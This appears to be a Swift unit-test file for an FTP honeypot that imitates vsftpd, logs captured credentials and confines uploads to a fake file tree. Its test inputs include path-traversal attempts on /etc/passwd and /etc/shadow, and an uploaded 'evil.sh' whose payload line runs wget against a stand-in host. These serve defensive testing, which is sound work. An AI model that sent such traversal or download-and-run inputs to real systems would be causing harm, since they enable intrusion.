import XCTest
import MitsuCore
@testable import MitsuServices

/// The FTP state machine with byte fixtures: vsftpd's exact replies, credential capture, data-connection
/// rules and uploads.
final class FTPSessionTests: XCTestCase {
    let store = Fixture.MemoryStorage()

    func session(rules: [String] = ["admin:secret"], acceptAfter: Int = 0) -> FTPSession {
        var s = FTPSettingsFixture.settings
        s.failedLoginDelayMS = 1000
        return FTPSession(context: Fixture.context("ftp"), settings: s,
                          policy: LoginPolicy(rules: rules.compactMap(LoginPolicy.rule), acceptAfter: acceptAfter),
                          storage: store.storage)
    }

    func loggedIn() -> FTPSession {
        var s = session()
        _ = s.receive(Array("USER admin\r\nPASS secret\r\n".utf8))
        return s
    }

    func testBannerAndLoginRepliesAreVsftpds() {
        var s = session()
        XCTAssertEqual(Fixture.text(s.start()), "220 (vsFTPd 3.0.3)\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("SYST\r\n".utf8))), "530 Please login with USER and PASS.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PASS x\r\n".utf8))), "503 Login with USER first.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("USER admin\r\n".utf8))), "331 Please specify the password.\r\n")
        let out = s.receive(Array("PASS secret\r\n".utf8))
        XCTAssertEqual(Fixture.text(out), "230 Login successful.\r\n")
        let login = Fixture.events(out).first { $0.kind == .loginSuccess }
        XCTAssertEqual(login?.username, "admin")
        XCTAssertEqual(login?.password, "secret")
        XCTAssertEqual(login?.protocol, "ftp")
        XCTAssertEqual(Fixture.text(s.receive(Array("SYST\r\n".utf8))), "215 UNIX Type: L8\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PWD\r\n".utf8))), "257 \"/\" is the current directory\r\n")
    }

    func testHelpAndStatAfterLogin() {
        var s = loggedIn()
        XCTAssertTrue(Fixture.text(s.receive(Array("HELP\r\n".utf8))).hasSuffix(" XPWD XRMD\r\n214 Help OK.\r\n"))
        _ = s.receive(Array("TYPE I\r\n".utf8))
        let stat = Fixture.text(s.receive(Array("STAT\r\n".utf8)))
        XCTAssertTrue(stat.hasPrefix("211-FTP server status:\r\n     Connected to 203.0.113.7\r\n     Logged in as admin\r\n     TYPE: BINARY\r\n"), stat)
        XCTAssertTrue(stat.hasSuffix("     vsFTPd 3.0.3 - secure, fast, stable\r\n211 End of status\r\n"), stat)
    }

    func testWrongPasswordIsDelayedAndThirdFailureCloses() {
        var s = session()
        var out: [FTPOutput] = []
        for _ in 0..<3 { out = s.receive(Array("USER root\r\nPASS toor\r\n".utf8)) }
        XCTAssertTrue(out.contains(.sendAfter(Array("530 Login incorrect.\r\n".utf8), milliseconds: 1000)))
        XCTAssertEqual(out.last, .close)
        let failed = Fixture.events(out).first { $0.kind == .loginFailed }
        XCTAssertEqual(failed?.username, "root")
        XCTAssertEqual(failed?.password, "toor")
    }

    func testEveryCommandIsLoggedWithThePasswordMasked() {
        var s = session()
        let out = s.receive(Array("USER admin\r\nPASS secret\r\nXYZZY arg\r\n".utf8))
        let inputs = Fixture.events(out).filter { $0.kind == .ftpCommand }.map(\.input)
        XCTAssertEqual(inputs, ["USER admin", "PASS ****", "XYZZY arg"])
        XCTAssertTrue(Fixture.text(out).hasSuffix("500 Unknown command.\r\n"))
    }

    func testCommandsSplitAcrossReadsAndBareLF() {
        var s = loggedIn()
        XCTAssertEqual(s.receive(Array("NO".utf8)), [])
        XCTAssertEqual(Fixture.text(s.receive(Array("OP\n".utf8))), "200 NOOP ok.\r\n")
    }

    func testFakeTreeNavigationSizeAndMdtm() {
        var s = loggedIn()
        XCTAssertEqual(Fixture.text(s.receive(Array("CWD backup\r\n".utf8))), "250 Directory successfully changed.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PWD\r\n".utf8))), "257 \"/backup\" is the current directory\r\n")
        let size = FTPTree.standard.entry("/backup/db_backup.sql")?.size ?? -1
        XCTAssertEqual(Fixture.text(s.receive(Array("SIZE db_backup.sql\r\n".utf8))), "213 \(size)\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("MDTM ../pub/README\r\n".utf8))), "213 20230915143001\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("CWD /nope\r\n".utf8))), "550 Failed to change directory.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("CWD ../../../../etc\r\n".utf8))), "550 Failed to change directory.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("SIZE /etc/passwd\r\n".utf8))), "550 Could not get file size.\r\n")
    }

    func testPortOnlyBackToTheClientOnUnprivilegedPorts() {
        var s = loggedIn()
        XCTAssertEqual(Fixture.text(s.receive(Array("PORT 198,51,100,1,195,80\r\n".utf8))), "500 Illegal PORT command.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PORT 203,0,113,7,0,25\r\n".utf8))), "500 Illegal PORT command.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PORT 203,0,113,7,300,1\r\n".utf8))), "500 Illegal PORT command.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("EPRT |1|198.51.100.1|50000|\r\n".utf8))), "500 Illegal EPRT command.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("EPRT |9|x|1|\r\n".utf8))), "500 Bad EPRT command.\r\n")
        XCTAssertEqual(Fixture.text(s.receive(Array("PORT 203,0,113,7,195,80\r\n".utf8))), "200 PORT command successful. Consider using PASV.\r\n")
        XCTAssertEqual(s.receive(Array("LIST\r\n".utf8)).last, .openData(.active(host: "203.0.113.7", port: 50000)))
    }

    func testListWithoutDataConnectionAndPassiveListing() {
        var s = loggedIn()
        XCTAssertEqual(Fixture.text(s.receive(Array("LIST\r\n".utf8))), "425 Use PORT or PASV first.\r\n")
        XCTAssertEqual(s.receive(Array("PASV\r\n".utf8)).last, .openPassive)
        // Commands wait while the passive socket is being bound.
        XCTAssertEqual(Fixture.events(s.receive(Array("LIST -la /backup\r\n".utf8))), [])
        let opened = s.passiveOpened(ip: "192.0.2.10", port: 0xC350)
        XCTAssertTrue(Fixture.text(opened).hasPrefix("227 Entering Passive Mode (192,0,2,10,195,80).\r\n"))
        XCTAssertEqual(opened.last, .openData(.passive))
        let connected = s.dataConnected()
        XCTAssertEqual(Fixture.text(connected), "150 Here comes the directory listing.\r\n")
        guard case .sendData(let listing)? = connected.last else { return XCTFail("no listing") }
        let lines = String(decoding: listing, as: UTF8.self).components(separatedBy: "\r\n").filter { !$0.isEmpty }
        XCTAssertEqual(lines.count, 2)
        XCTAssertTrue(lines[0].hasPrefix("-rw-r--r--    1 0        0   "), lines[0])
        XCTAssertTrue(lines[0].hasSuffix(" config.php.bak"), lines[0])
        XCTAssertEqual(Fixture.text(s.dataFinished(received: [], truncated: false)), "226 Directory send OK.\r\n")
    }

    func testEpsvReplyAndOneTransferPerPasv() {
        var s = loggedIn()
        _ = s.receive(Array("EPSV\r\n".utf8))
        XCTAssertEqual(Fixture.text(s.passiveOpened(ip: "::1", port: 40001)), "229 Entering Extended Passive Mode (|||40001|)\r\n")
        _ = s.receive(Array("NLST\r\n".utf8))
        _ = s.dataConnected()
        _ = s.dataFinished(received: [], truncated: false)
        XCTAssertEqual(Fixture.text(s.receive(Array("NLST\r\n".utf8))), "425 Use PORT or PASV first.\r\n")
    }

    func testUploadIsStoredAndReported() {
        var s = loggedIn()
        _ = s.receive(Array("PASV\r\n".utf8))
        _ = s.passiveOpened(ip: "192.0.2.10", port: 50000)
        XCTAssertEqual(s.receive(Array("STOR ../../evil.sh\r\n".utf8)).last, .openData(.passive))
        let connected = s.dataConnected()
        XCTAssertEqual(Fixture.text(connected), "150 Ok to send data.\r\n")
        XCTAssertEqual(connected.last, .receiveData(limit: FTPSettingsFixture.settings.maxUploadBytes))
        let payload = Array("#!/bin/sh\nwget http://x/y\n".utf8)
        let done = s.dataFinished(received: payload, truncated: false, now: "20261127010203")
        XCTAssertEqual(Fixture.text(done), "226 Transfer complete.\r\n")
        let upload = Fixture.events(done).first { $0.kind == .fileUpload }
        XCTAssertEqual(upload?.filename, "../../evil.sh", "the client's name is recorded as data")
        XCTAssertEqual(upload?.sha256, Digests.sha256(payload))
        XCTAssertEqual(upload?.size, Int64(payload.count))
        XCTAssertEqual(store.files, [payload])
        // The session's own view shows the upload at the resolved, confined path.
        XCTAssertEqual(Fixture.text(s.receive(Array("SIZE /evil.sh\r\n".utf8))), "213 \(payload.count)\r\n")
    }

    func testTruncatedUploadAnswers451() {
        var s = loggedIn()
        _ = s.receive(Array("PASV\r\n".utf8))
        _ = s.passiveOpened(ip: "192.0.2.10", port: 50000)
        _ = s.receive(Array("APPE big.bin\r\n".utf8))
        _ = s.dataConnected()
        let done = s.dataFinished(received: [1, 2, 3], truncated: true)
        XCTAssertEqual(Fixture.text(done), "451 Failure writing to local file.\r\n")
        XCTAssertEqual(Fixture.events(done).first { $0.kind == .fileUpload }?.message, "truncated at the upload cap")
    }

    func testRetrOfBaitAndMissingFile() {
        var s = loggedIn()
        XCTAssertEqual(Fixture.text(s.receive(Array("RETR /etc/shadow\r\n".utf8))), "550 Failed to open file.\r\n")
        _ = s.receive(Array("PASV\r\n".utf8))
        _ = s.passiveOpened(ip: "192.0.2.10", port: 50000)
        _ = s.receive(Array("RETR /pub/README\r\n".utf8))
        let c = s.dataConnected()
        let bait = FTPTree.standard.entry("/pub/README")?.content ?? []
        XCTAssertEqual(Fixture.text(c), "150 Opening BINARY mode data connection for /pub/README (\(bait.count) bytes).\r\n")
        XCTAssertEqual(c.last, .sendData(bait))
        XCTAssertEqual(Fixture.text(s.dataFinished(received: [], truncated: false)), "226 Transfer complete.\r\n")
    }

    func testFailedDataConnection() {
        var s = loggedIn()
        _ = s.receive(Array("PASV\r\n".utf8))
        _ = s.passiveOpened(ip: "192.0.2.10", port: 50000)
        _ = s.receive(Array("LIST\r\nNOOP\r\n".utf8))
        XCTAssertEqual(Fixture.text(s.dataFailed(connected: false)), "425 Failed to establish connection.\r\n200 NOOP ok.\r\n")
    }

    func testOverlongLineIsAProtocolErrorAndClose() {
        var s = session()
        let out = s.receive([UInt8](repeating: 0x41, count: 5000))
        XCTAssertEqual(Fixture.events(out).map(\.kind), [.protocolError])
        XCTAssertEqual(out.last, .close)
        XCTAssertEqual(s.receive(Array("USER a\r\n".utf8)), [], "nothing after the close")
    }

    func testBinaryGarbageNeverTraps() {
        var rng = SystemRandomNumberGenerator()
        for _ in 0..<200 {
            var s = loggedIn()
            let junk = (0..<Int.random(in: 0...600, using: &rng)).map { _ in UInt8.random(in: 0...255, using: &rng) }
            _ = s.receive(junk + [0x0A])
            _ = s.passiveOpened(ip: "1.2.3.4", port: 1)
            _ = s.dataConnected()
            _ = s.dataFinished(received: junk, truncated: false)
        }
    }

    func testPathResolutionStaysInsideTheTree() {
        XCTAssertEqual(FTPTree.resolve("../../etc/passwd", cwd: "/pub"), "/etc/passwd")
        XCTAssertEqual(FTPTree.resolve("./a//b/../c", cwd: "/"), "/a/c")
        XCTAssertNil(FTPTree.resolve(String(repeating: "a", count: 2000), cwd: "/"))
    }
}

enum FTPSettingsFixture {
    static var settings: FTPSession.Settings {
        var s = FTPSession.Settings()
        s.maxUploadBytes = 1 << 20
        return s
    }
}
